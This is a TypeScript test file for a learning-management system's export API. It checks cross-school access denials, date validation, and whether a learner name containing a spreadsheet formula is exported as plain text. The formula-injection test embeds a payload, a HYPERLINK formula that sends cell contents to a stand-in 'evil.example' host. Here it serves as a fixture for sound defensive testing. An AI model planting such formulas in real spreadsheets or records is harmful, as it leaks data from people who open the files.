import type { JobDetail, JobSummary } from '@saola/core/api';
import { ID_TYPE } from '@saola/core/constants';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { newAccount } from '../src/db/records';
import { demoPasswordHash, startWithOwner, type TestServer } from './harness';
import { downloadJob, readBook } from './job-files';

/** Exports started as an attacker would start them: other schools' ids, broken dates, names that are formulas. */
let t: TestServer;
let owner: string;
let otherUnit: number;
beforeAll(async () => {
  ({ t, owner } = await startWithOwner());
  const other = await t.addOtherSite();
  otherUnit = (
    await t.server.connection.db
      .insertInto('units')
      .values({ idSite: other.idSite, name: 'Their unit' } as never)
      .returning('id')
      .executeTakeFirstOrThrow()
  ).id;
});
afterAll(() => t.close());

const start = (payload: object) =>
  t.call<JobSummary>({ method: 'POST', url: '/Lms/Export/Start', token: owner, payload });

const jobCount = async () =>
  (await t.server.connection.db.selectFrom('dataJobs').select('id').execute()).length;

describe('export filters', () => {
  it('answers another school’s unit or course with 404 and a broken period with 400, starting no job', async () => {
    for (const module of ['detailReport', 'member', 'student'])
      expect((await start({ module, idUnit: otherUnit })).status, module).toBe(404);
    expect(
      (await start({ module: 'generalReport', from: '2026-01-01', to: '2026-02-01', idUnit: otherUnit }))
        .status,
    ).toBe(404);
    expect((await start({ module: 'openCourseLog', idCourse: 999_999 })).status).toBe(404);
    const garbage = await start({ module: 'detailReport', from: 'garbage' });
    expect(garbage.status).toBe(400);
    expect(garbage.body.data).toEqual([{ field: 'from', message: expect.any(String) }]);
    const backwards = await start({ module: 'generalReport', from: '2026-03-01', to: '2026-01-01' });
    expect(backwards.status).toBe(400);
    expect((backwards.body.data as unknown as Array<{ field: string }>)[0]?.field).toBe('to');
    expect(await jobCount()).toBe(0);
  });
});

describe('formula injection', () => {
  it('writes a learner whose name is a formula as text, never as a formula a spreadsheet would run', async () => {
    const hash = await demoPasswordHash(t.server.connection.db);
    const name = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    await t.server.connection.db
      .insertInto('users')
      .values(
        newAccount({
          idSite: 1,
          username: 'formula.learner',
          fullName: name,
          idType: ID_TYPE.STUDENT,
          passwordHash: hash,
        }),
      )
      .execute();
    const job = (await start({ module: 'student', keyword: 'formula.learner' })).body.data as JobSummary;
    await t.server.services.dataJobs?.drain();
    const done = (
      await t.call<JobDetail>({ method: 'GET', url: '/Lms/Job/Get', token: owner, payload: { id: job.id } })
    ).body.data as JobDetail;
    expect(done.state).toBe('done');
    const file = await downloadJob(t, job.id, owner);
    const sheet = (await readBook(file.bytes)).worksheets[0] as ExcelJS.Worksheet;
    const cell = sheet.getRow(2).getCell(1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(name);
  });
});
